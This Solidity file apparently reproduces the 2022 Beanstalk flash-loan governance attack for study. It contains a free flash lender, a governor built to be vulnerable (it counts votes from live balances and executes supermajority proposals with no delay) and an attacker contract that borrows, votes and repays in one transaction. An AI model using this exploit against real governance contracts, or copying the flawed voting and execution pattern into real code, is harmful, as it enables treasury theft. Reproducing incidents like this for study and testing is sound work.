// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

// Beanstalk, April 2022 (BIP-18): the attacker flash-borrowed enough voting stake to pass its own proposal in one
// transaction and executed it at once through emergencyCommit, since votes counted live balances and a 2/3
// supermajority skipped any delay. These contracts reproduce that mechanic, not Beanstalk's code.

interface IFlashBorrower {
    function onFlashLoan(address token, uint256 amount, bytes calldata data) external returns (bytes32);
}

/// @notice Lends its whole balance of any token for the duration of one call, for free.
contract FlashLender {
    bytes32 public constant CALLBACK_OK = keccak256("FlashLender.onFlashLoan");

    function flashLoan(IFlashBorrower receiver, address token, uint256 amount, bytes calldata data) external {
        uint256 before = IERC20(token).balanceOf(address(this));
        require(IERC20(token).transfer(address(receiver), amount), "transfer out");
        require(receiver.onFlashLoan(token, amount, data) == CALLBACK_OK, "callback");
        require(IERC20(token).balanceOf(address(this)) >= before, "not repaid");
    }
}

/// @notice A governor that counts live token balances and lets a supermajority execute immediately: it is its own
/// executor (no timelock) and holds the treasury. Emits OpenZeppelin's ProposalCreated/VoteCast events.
contract LiveVoteGovernor {
    event ProposalCreated(uint256 proposalId, address proposer, address[] targets, uint256[] values,
        string[] signatures, bytes[] calldatas, uint256 voteStart, uint256 voteEnd, string description);
    event VoteCast(address indexed voter, uint256 proposalId, uint8 support, uint256 weight, string reason);
    event ProposalExecuted(uint256 proposalId);

    struct Proposal {
        address[] targets;
        uint256[] values;
        bytes[] calldatas;
        uint256 snapshot;
        uint256 forVotes;
        bool executed;
    }

    IERC20 public immutable token;
    mapping(uint256 => Proposal) private proposals;
    mapping(uint256 => mapping(address => bool)) public hasVoted;

    constructor(IERC20 token_) {
        token = token_;
    }

    function propose(address[] memory targets, uint256[] memory values, bytes[] memory calldatas,
        string memory description) external returns (uint256 id) {
        id = uint256(keccak256(abi.encode(targets, values, calldatas, keccak256(bytes(description)))));
        Proposal storage p = proposals[id];
        p.targets = targets;
        p.values = values;
        p.calldatas = calldatas;
        p.snapshot = block.number;
        emit ProposalCreated(id, msg.sender, targets, values, new string[](targets.length), calldatas, block.number,
            block.number + 7200, description);
    }

    function proposalSnapshot(uint256 id) external view returns (uint256) {
        return proposals[id].snapshot;
    }

    function proposalVotes(uint256 id) external view returns (uint256 against, uint256 forVotes, uint256 abstain) {
        return (0, proposals[id].forVotes, 0);
    }

    /// @dev the flaw: the weight is the voter's balance now, not at the proposal's snapshot
    function castVote(uint256 id, uint8 support) external returns (uint256 weight) {
        require(!hasVoted[id][msg.sender], "voted");
        hasVoted[id][msg.sender] = true;
        weight = token.balanceOf(msg.sender);
        if (support == 1) proposals[id].forVotes += weight;
        emit VoteCast(msg.sender, id, support, weight, "");
    }

    /// @dev executes at once, without delay, once two thirds of the supply voted for
    function emergencyCommit(uint256 id) external {
        Proposal storage p = proposals[id];
        require(!p.executed && p.forVotes * 3 >= token.totalSupply() * 2, "no supermajority");
        p.executed = true;
        for (uint256 i = 0; i < p.targets.length; i++) {
            (bool ok,) = p.targets[i].call{value: p.values[i]}(p.calldatas[i]);
            require(ok, "call failed");
        }
        emit ProposalExecuted(id);
    }

    receive() external payable {}
}

/// @notice Borrows the lender's tokens, votes with them and repays, all in one transaction.
contract FlashVoteAttacker is IFlashBorrower {
    FlashLender private immutable lender;
    LiveVoteGovernor private immutable governor;

    constructor(FlashLender lender_, LiveVoteGovernor governor_) {
        lender = lender_;
        governor = governor_;
    }

    function attack(address token, uint256 amount, uint256 proposalId) external {
        lender.flashLoan(this, token, amount, abi.encode(proposalId));
    }

    function onFlashLoan(address token, uint256 amount, bytes calldata data) external returns (bytes32) {
        require(msg.sender == address(lender), "lender only");
        governor.castVote(abi.decode(data, (uint256)), 1);
        require(IERC20(token).transfer(address(lender), amount), "repay");
        return lender.CALLBACK_OK();
    }
}
